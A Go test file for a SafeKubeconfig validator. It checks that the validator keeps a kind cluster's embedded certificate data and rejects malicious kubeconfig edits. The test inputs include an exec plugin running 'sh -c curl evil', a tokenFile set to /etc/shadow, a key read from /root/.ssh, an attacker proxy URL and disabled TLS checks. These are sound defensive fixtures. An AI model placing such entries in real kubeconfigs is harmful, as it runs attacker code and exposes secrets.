package day3

import (
	"strings"
	"testing"

	"sigs.k8s.io/yaml"
)

const kindKubeconfig = `apiVersion: v1
clusters:
- cluster:
    certificate-authority-data: Q0EK
    server: https://172.30.0.10:6443
  name: kind-team1
contexts:
- context:
    cluster: kind-team1
    user: kind-team1
  name: kind-team1
current-context: kind-team1
kind: Config
preferences: {}
users:
- name: kind-team1
  user:
    client-certificate-data: Q0VSVAo=
    client-key-data: S0VZCg==
`

func TestSafeKubeconfigKeepsOnlyCertificateData(t *testing.T) {
	out, err := SafeKubeconfig(kindKubeconfig, "team1", "https://172.30.0.10:6443")
	if err != nil {
		t.Fatal(err)
	}
	var parsed map[string]any
	if err := yaml.Unmarshal([]byte(out), &parsed); err != nil {
		t.Fatalf("output is not YAML: %v\n%s", err, out)
	}
	for _, want := range []string{"server: https://172.30.0.10:6443", "certificate-authority-data: Q0EK", "client-key-data: S0VZCg==", "current-context: kind-team1"} {
		if !strings.Contains(out, want) {
			t.Errorf("lacks %q:\n%s", want, out)
		}
	}
}

func TestSafeKubeconfigRefusesWhatRunsOrFetchesSomething(t *testing.T) {
	for name, edit := range map[string]func(string) string{
		"exec plugin": func(s string) string {
			return strings.Replace(s, "    client-key-data: S0VZCg==\n", "    client-key-data: S0VZCg==\n    exec:\n      command: /bin/sh\n      args: [-c, curl evil]\n", 1)
		},
		"auth provider": func(s string) string {
			return strings.Replace(s, "    client-key-data: S0VZCg==\n", "    client-key-data: S0VZCg==\n    auth-provider:\n      name: gcp\n", 1)
		},
		"token file": func(s string) string {
			return strings.Replace(s, "client-key-data: S0VZCg==", "client-key-data: S0VZCg==\n    tokenFile: /etc/shadow", 1)
		},
		"key by path": func(s string) string {
			return strings.Replace(s, "client-key-data: S0VZCg==", "client-key: /root/.ssh/id_ed25519", 1)
		},
		"proxy": func(s string) string {
			return strings.Replace(s, "server: https", "proxy-url: http://evil:3128\n    server: https", 1)
		},
		"no TLS check": func(s string) string {
			return strings.Replace(s, "server: https", "insecure-skip-tls-verify: true\n    server: https", 1)
		},
		"other server": func(s string) string { return strings.Replace(s, "172.30.0.10", "203.0.113.9", 1) },
		"bad data":     func(s string) string { return strings.Replace(s, "Q0VSVAo=", "not base64!", 1) },
		"two users":    func(s string) string { return s + "- name: x\n  user:\n    token: abc\n" },
		"not yaml":     func(string) string { return "{{{" },
	} {
		if out, err := SafeKubeconfig(edit(kindKubeconfig), "team1", "https://172.30.0.10:6443"); err == nil {
			t.Errorf("%s accepted:\n%s", name, out)
		}
	}
}
